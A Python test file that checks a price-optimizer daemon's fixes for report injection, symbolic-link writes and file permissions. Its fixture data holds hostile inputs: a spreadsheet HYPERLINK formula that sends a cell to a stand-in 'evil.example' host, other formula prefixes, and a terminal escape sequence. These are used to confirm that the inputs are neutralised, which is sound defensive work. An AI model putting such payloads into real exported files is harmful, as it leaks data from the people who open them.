"""Issue 19, findings 4, 10, 11 and 12: what the daemon writes to disk.

4/10. API strings in CSV and Markdown reports: no spreadsheet formulas, no terminal
      escapes (the HTML report's escaping is tested in tests/report).
11.   `demo` and `report --out` never write through a planted symbolic link.
12.   The database, logs and reports are private (0600 in 0700 directories) whatever the
      umask.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from freezegun import freeze_time

from optimizer.analysis import analyze
from optimizer.daemon.demo import run_demo
from optimizer.errors import OptimizerError
from optimizer.private_files import open_private, write_private_text
from optimizer.report import render_markdown, to_csv
from optimizer.store.engine import open_store
from tests.report.conftest import sim_history as sim_history  # the fixture
from tests.report.test_report_cli import run

ESC = "\x1b]0;owned\x07\x1b[31m"
EVIL = {
    "configuration": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "country": "@SUM(1)",
    "datacenter": f"+1-2{ESC}",
}


def _hostile_analysis():  # type: ignore[no-untyped-def]
    rows = []
    t0 = pd.Timestamp("2026-03-01T06:00Z")
    for d in range(9):
        for k, (cfg, country, dc) in enumerate(
            [tuple(EVIL.values()), ("cpu-2-ram-4gb-storage-25gb", "FR", "FR-PAR-1")]
        ):
            rows.append(
                {"ts": t0 + pd.Timedelta(days=d), "offer_key": f"k{k}", "configuration": cfg,
                 "country": country, "city": "X", "datacenter": dc, "vcpu": 2, "ram_gb": 4,
                 "price_usd": 2.0 + 0.1 * d * (2 * k - 1), "capacity": 3}
            )  # fmt: skip
    df = pd.DataFrame(rows)
    df["ts"] = df["ts"].astype("datetime64[ns, UTC]")
    return analyze(
        df, since=datetime(2026, 3, 1, tzinfo=UTC), until=datetime(2026, 3, 10, tzinfo=UTC)
    )


# -- findings 4 and 10: CSV and Markdown ---------------------------------------------------


def test_csv_cells_cannot_be_formulas_and_numbers_stay_numbers() -> None:
    text = to_csv(_hostile_analysis())
    assert "\x1b" not in text and "\x07" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    hostile = [r for r in rows if r["configuration"] != "cpu-2-ram-4gb-storage-25gb"]
    assert hostile
    for r in rows:
        for col, cell in r.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (col, cell)
            if cell.startswith("-"):  # only a negative number may start with '-'
                float(cell)
    first = hostile[0]
    assert first["configuration"] == "'" + EVIL["configuration"]
    assert first["country"] in ("", "'@SUM(1)")
    # numeric columns are plain numbers (negative changes included), not quoted text
    numeric = [c for c in rows[0] if c not in ("level", "configuration", "country",
                                                "datacenter", "epoch")]  # fmt: skip
    assert numeric and all(float(r[c]) is not None for r in rows for c in numeric if r[c] != "")
    assert any(r[c].startswith("-") for r in rows for c in numeric), "no negative number seen"


def test_markdown_report_has_no_terminal_escapes() -> None:
    md = render_markdown(_hostile_analysis(), generated_at=datetime(2026, 3, 10, tzinfo=UTC))
    assert "\x1b" not in md and "\x07" not in md
    assert "+1-2 \\]0;owned" in md  # the text is kept, its control characters are not


# -- finding 11: no writing through planted links ------------------------------------------


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    v = tmp_path / "victim.txt"
    v.write_text("precious\n")
    return v


def test_demo_does_not_follow_a_planted_log_link(tmp_path: Path, victim: Path) -> None:
    work = tmp_path / "demo"
    work.mkdir()
    (work / "daemon.log").symlink_to(victim)
    with pytest.raises(OptimizerError, match=r"daemon\.log: cannot write the log: is a symbolic"):
        run_demo(days=0.1, workdir=work, progress=False)
    assert victim.read_text() == "precious\n"


def test_demo_report_replaces_a_planted_link_instead_of_writing_through_it(
    tmp_path: Path, victim: Path
) -> None:
    work = tmp_path / "demo"
    work.mkdir()
    (work / "report.html").symlink_to(victim)
    summary = run_demo(days=1, workdir=work, progress=False)
    assert victim.read_text() == "precious\n"
    assert summary.report == (work / "report.html").absolute()
    report = work / "report.html"
    assert not report.is_symlink() and "<html" in report.read_text()
    # finding 12: the demo's files are private
    for f in (work / "demo.db", work / "daemon.log", report):
        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f
    assert stat.S_IMODE(work.stat().st_mode) in (0o700, 0o755)  # it existed already


def test_report_out_replaces_a_planted_link(
    sim_history, tmp_path: Path, victim: Path, capsys
) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "r.md"
    out.symlink_to(victim)
    with freeze_time(sim_history.end):
        code, _, err = run(
            ["--database", sim_history.url, "report", "-f", "md", "-o", str(out)], capsys
        )
    assert code == 0, err
    assert victim.read_text() == "precious\n"
    assert not out.is_symlink() and stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_text(encoding="utf-8").startswith("# Fluence CPU Cloud")


def test_streams_refuse_links_and_devices(tmp_path: Path, victim: Path) -> None:
    link = tmp_path / "log"
    link.symlink_to(victim)
    with pytest.raises(OSError, match="symbolic link"):
        open_private(link)
    with pytest.raises(OSError, match="not a regular file"):
        open_private(tmp_path)  # a directory
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(OSError, match="not a regular file"):
        open_private(fifo)  # would block forever if opened
    assert victim.read_text() == "precious\n"


# -- finding 12: modes under a permissive umask --------------------------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def test_database_and_its_directory_are_private_under_umask_022(
    tmp_path: Path, umask_022: None
) -> None:
    db = tmp_path / "state" / "deep" / "optimizer.db"
    engine = open_store(f"sqlite:///{db}")
    try:
        with engine.begin() as conn:
            conn.exec_driver_sql("CREATE TABLE t (x INTEGER)")
            conn.exec_driver_sql("INSERT INTO t VALUES (1)")
        files = [p for p in db.parent.iterdir() if p.name.startswith("optimizer.db")]
        assert {p.name for p in files} >= {"optimizer.db", "optimizer.db-wal"}
        for p in files:
            assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
        for d in (db.parent, db.parent.parent):
            assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
    finally:
        engine.dispose()


def test_written_files_are_private_under_umask_022(tmp_path: Path, umask_022: None) -> None:
    report = tmp_path / "report.html"
    report.write_text("old, world-readable")
    assert stat.S_IMODE(report.stat().st_mode) == 0o644
    write_private_text(report, "new")
    assert stat.S_IMODE(report.stat().st_mode) == 0o600 and report.read_text() == "new"
    with open_private(tmp_path / "x.log") as f:
        f.write("line\n")
    assert stat.S_IMODE((tmp_path / "x.log").stat().st_mode) == 0o600
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
